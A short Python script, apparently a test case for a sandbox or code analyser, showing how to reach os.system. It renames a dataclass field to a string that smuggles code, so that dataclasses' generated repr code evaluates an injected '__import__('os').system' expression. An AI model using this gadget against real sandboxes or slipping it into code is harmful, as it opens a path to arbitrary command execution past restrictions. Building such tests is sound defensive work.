# The field of a dataclass, kept in a list of the class.
# reaches: os.system
from dataclasses import dataclass, field

found = []


@dataclass
class A:
    x: int = field(default=0)
    kept = [x]


for f in A.kept:
    f.name = "x if {found.append(__import__('os').system)} else 0"


@dataclass(init=False, eq=False)
class B(A):
    pass


repr(B())
REACHED = found[0]
